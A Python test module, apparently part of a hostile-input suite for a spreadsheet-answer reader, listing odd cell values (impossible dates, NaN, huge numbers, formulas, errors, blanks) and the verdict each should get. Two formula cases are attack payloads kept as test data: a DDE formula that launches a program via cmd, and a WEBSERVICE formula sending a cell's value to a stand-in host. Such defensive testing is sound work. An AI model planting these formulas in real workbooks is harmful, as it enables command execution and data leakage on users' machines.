"""Cells whose value is not what the column holds: dates, numbers, formulas, errors."""

import re

from tests.hostile.invented import ACTIONS_PART, USUAL
from tests.hostile.kind import (
    DAMAGED,
    Kind,
    Make,
    Read,
    Refusal,
    inline,
    of_parts,
    replace_in,
    rows_added,
    set_cells,
    taken,
    with_cells,
)

_COMPLETED = ("2.1", "completed")
_WITHOUT_DATE = {k: v for k, v in USUAL.items() if k != _COMPLETED}
_NO_DATE = Read(_WITHOUT_DATE, ("date-not-a-date",))
_STYLES = "xl/styles.xml"
_ERRORS = ("#REF!", "#N/A", "#VALUE!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#GETTING_DATA", "#SPILL!")


def _date(rest: str) -> Make:
    """The date of implementation of action 2.1."""
    return with_cells(F4=rest)


def _day(at: str, serial: int) -> Make:
    """A cell that shows a day, in the format of the due dates."""

    def change(into: dict[str, bytes]) -> None:
        found = re.search(rb'<c r="C2" s="(\d+)"', into[ACTIONS_PART])
        assert found is not None
        set_cells(into, {at: f' s="{found[1].decode()}"><v>{serial}</v></c>'})

    return of_parts(change)


def _completed(plain: str, *problems: str) -> Read:
    return Read({**USUAL, _COMPLETED: plain}, problems)


def _formula(text: str, cached: str = "<v>7</v>", kind: str = "") -> Make:
    return with_cells(I2=f"{kind}><f>{text}</f>{cached}</c>")


def _formatted(code: str, value: str) -> Make:
    """The same cell with a number format of its own."""

    def change(into: dict[str, bytes]) -> None:
        xml = into[_STYLES].decode()
        number = xml[: xml.index("</cellXfs>")].partition("<cellXfs")[2].count("<xf ")
        replace_in(into, _STYLES, "</cellXfs>", '<xf numFmtId="199"/></cellXfs>')
        replace_in(into, _STYLES, "</numFmts>", f'<numFmt numFmtId="199" formatCode="{code}"/></numFmts>')
        set_cells(into, {"F4": f' s="{number}"><v>{value}</v></c>'})

    return of_parts(change)


DATES = (
    Kind("serial-60-a-day-that-never-was", _date("><v>60</v></c>"), _NO_DATE),
    Kind("serial-0", _date("><v>0</v></c>"), _NO_DATE),
    Kind("serial-1", _date("><v>1</v></c>"), Read(_WITHOUT_DATE, ("date-far-off",))),
    Kind("a-negative-date", _date("><v>-5</v></c>"), _NO_DATE),
    Kind("a-date-after-the-year-9999", _date("><v>2958466</v></c>"), _NO_DATE),
    Kind("a-date-in-the-year-9999", _date("><v>2958465</v></c>"), Read(_WITHOUT_DATE, ("date-far-off",))),
    Kind("a-date-with-a-time", _date("><v>43406.75</v></c>"), _completed("2018-11-02")),
    Kind("a-date-a-hair-before-midnight", _date("><v>43406.9999999999</v></c>"), _completed("2018-11-03")),
    Kind("a-time-without-a-day", _formatted("hh:mm", "0.5"), _NO_DATE),
    Kind("a-date-that-lost-its-format", _formatted("0.00", "43406"), _NO_DATE),
    Kind("a-date-in-a-format-with-words", _formatted("d&quot; de &quot;mmmm", "43406"), _completed("2018-11-02")),
    Kind("a-date-in-a-format-of-a-locale", _formatted("[$-419]d mmmm yyyy", "43406"), _completed("2018-11-02")),
    Kind("a-number-in-a-format-that-only-looks-like-a-date", _formatted("&quot;day&quot; 0", "43406"), _NO_DATE),
    Kind("a-format-code-of-a-megabyte", _formatted("d" * 1_000_000, "43406"), _completed("2018-11-02")),
    Kind("the-date-system-of-1904", of_parts(lambda into: replace_in(
        into, "xl/workbook.xml", "<workbookPr ", '<workbookPr date1904="1" ')),
         Read({**_WITHOUT_DATE}, ("date-after-as-of", *["locked-changed"] * 5))),
    Kind("a-date-as-iso-8601", _date(' t="d"><v>2018-11-02</v></c>'), _completed("2018-11-02")),
    Kind("a-date-as-iso-8601-that-never-was", _date(' t="d"><v>2018-02-30</v></c>'), _NO_DATE),
    Kind("a-date-as-text", _date(inline("2 November 2018")), _completed("2018-11-02", "date-as-text")),
    Kind("a-date-as-text-in-french", _date(inline("le 2 novembre 2018")), _completed("2018-11-02", "date-as-text")),
    Kind("a-date-as-text-that-can-be-read-in-two-ways", _date(inline("03/04/2018")),
         Read(_WITHOUT_DATE, ("date-ambiguous",))),
    Kind("a-date-as-text-in-arabic-digits", _date(inline("\u0662/\u0661\u0661/\u0662\u0660\u0661\u0668")),
         Read(_WITHOUT_DATE, ("date-ambiguous",))),
    Kind("a-truth-value-for-a-date", _date(' t="b"><v>1</v></c>'), _NO_DATE),
    Kind("a-date-for-a-status", with_cells(E4="><v>43406</v></c>"), Read(
        {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("not-in-list",))),
    Kind("a-date-for-a-comment", _day("I2", 43406), taken(comment="2018-11-02")),
)
NUMBERS = (
    Kind("a-number-that-is-not-a-number", with_cells(I2="><v>NaN</v></c>"), DAMAGED),
    Kind("an-infinite-number", with_cells(I2="><v>-INF</v></c>"), DAMAGED),
    Kind("a-number-too-large-for-any-program", with_cells(I2="><v>1e999</v></c>"), DAMAGED),
    Kind("a-number-with-an-underscore", with_cells(I2="><v>1_000</v></c>"), DAMAGED),
    Kind("a-number-in-hexadecimal", with_cells(I2="><v>0x10</v></c>"), DAMAGED),
    Kind("a-number-with-a-comma", with_cells(I2="><v>1,5</v></c>"), DAMAGED),
    Kind("a-number-of-ten-thousand-digits", with_cells(I2=f'><v>{"1" * 10_000}</v></c>'), DAMAGED),
    Kind("a-number-in-other-digits", with_cells(I2="><v>\u0663</v></c>"), taken(comment="3")),
    Kind("a-number-for-a-comment", with_cells(I2="><v>11</v></c>"), taken(comment="11")),
    Kind("a-tiny-number-for-a-comment", with_cells(I2="><v>1E-300</v></c>"), taken(comment="1e-300")),
    Kind("a-number-that-no-binary-fraction-holds", with_cells(I2="><v>0.1</v></c>"), taken(comment="0.1")),
    Kind("a-truth-value-for-a-comment", with_cells(I2=' t="b"><v>1</v></c>'), taken(comment="TRUE")),
    Kind("a-truth-value-that-is-neither", with_cells(I2=' t="b"><v>2</v></c>'), DAMAGED),
    Kind("a-number-for-a-status", with_cells(E4="><v>100</v></c>"), Read(
        {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("not-in-list",))),
    Kind("a-reference-that-became-a-number", with_cells(A6="><v>3.1</v></c>"),
         Read(problems=("ref-missing", "ref-unknown"))),
    Kind("a-reference-that-became-a-date", _day("A3", 43132), Read(
        {k: v for k, v in USUAL.items() if k[0] != "1.2"}, ("ref-missing", "ref-unknown"))),
    Kind("a-reference-that-is-a-number-and-reads-the-same", with_cells(A3="><v>1.2</v></c>"), Read()),
)
_FORMULA = taken("formula-in-answer")
FORMULAS = (
    Kind("a-formula-that-nobody-computed", _formula("1+1", ""), _FORMULA),
    Kind("a-formula-with-its-value", _formula("1+1"), _FORMULA),
    Kind("a-formula-that-is-a-text", _formula("A2&amp;Q2", "<v>text</v>", ' t="str"'), _FORMULA),
    Kind("a-formula-that-is-an-error", _formula("1/0", "<v>#DIV/0!</v>", ' t="e"'), _FORMULA),
    Kind("a-truth-as-libreoffice-writes-it", _formula("TRUE()", "<v>1</v>", ' t="b"'), taken(comment="TRUE")),
    Kind("a-formula-that-calls-a-program", _formula("cmd|' /C calc'!A0"), _FORMULA),
    Kind("a-formula-that-asks-the-network", _formula("WEBSERVICE(&quot;http://tracker.invalid/&quot;&amp;A2)"), _FORMULA),
    Kind("a-formula-from-another-workbook", _formula("[1]Sheet1!$A$1"), _FORMULA),
    Kind("a-formula-shared-with-another-cell", with_cells(
        I2='><f t="shared" ref="I2:I3" si="0">A2</f><v>1</v></c>', I3='><f t="shared" si="0"/><v>1</v></c>'),
         Read({k: v for k, v in USUAL.items() if k != ("1.2", "comment")}, ("formula-in-answer",) * 2)),
    Kind("a-formula-over-an-array", with_cells(I2='><f t="array" ref="I2:I3">A2:A3</f><v>1</v></c>'), _FORMULA),
    Kind("a-formula-of-a-data-table", with_cells(
        I2='><f t="dataTable" ref="I2:I3" dt2D="1" dtr="1" r1="A2" r2="A3"/><v>1</v></c>'), _FORMULA),
    Kind("a-formula-of-a-megabyte", _formula("1+" * 500_000 + "1"), Refusal("too-long")),
    Kind("a-formula-for-a-status", with_cells(E4=' t="str"><f>E3</f><v>Implemented</v></c>'), Read(
        {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("formula-in-answer",))),
    Kind("a-formula-for-a-reference", with_cells(A3=' t="str"><f>A2&amp;""</f><v>1.2</v></c>'), Read(
        {k: v for k, v in USUAL.items() if k[0] != "1.2"}, ("ref-missing", "ref-unknown"))),
    Kind("formulas-of-ours-removed", of_parts(lambda into: set_cells(
        into, {f"{column}{row}": "/>" for column in "ST" for row in range(2, 7)})), Read()),
    Kind("a-row-of-formulas-below-the-table", rows_added('<row r="7"><c r="A7"><f>SUM(A2:A6)</f><v>6</v></c></row>'),
         Read(problems=("ref-unknown",))),
)
ERRORS = tuple(
    Kind(f"the-error-{error.strip('#!?').replace('/', '').lower().replace('_', '-')}",
         with_cells(I2=f' t="e"><v>{error}</v></c>'), taken("error-value"))
    for error in _ERRORS
)  # fmt: skip
EMPTIED = Read(USUAL, ("in-progress-without-comment", "overdue-unexplained"), ("answer-emptied",))
BLANKS = (
    Kind("an-error-that-is-none", with_cells(I2=' t="e"><v></v></c>'), EMPTIED),
    Kind("an-answer-emptied", with_cells(I2="/>"), EMPTIED),
    Kind("an-answer-of-blanks", with_cells(I2=inline(" \t\u00a0 ")), EMPTIED),
    Kind("an-answer-of-characters-that-nobody-sees", with_cells(I2=inline("\u200b\u2060\ufeff")), EMPTIED),
    Kind("every-answer-emptied", of_parts(lambda into: set_cells(
        into, {f"{column}{row}": "/>" for column in "EFI" for row in range(2, 7)})),
         Read({}, ("not-yours-to-answer", "overdue-unexplained", *["status-missing"] * 4), ("answer-emptied",))),
)
KINDS = (*DATES, *NUMBERS, *FORMULAS, *ERRORS, *BLANKS)
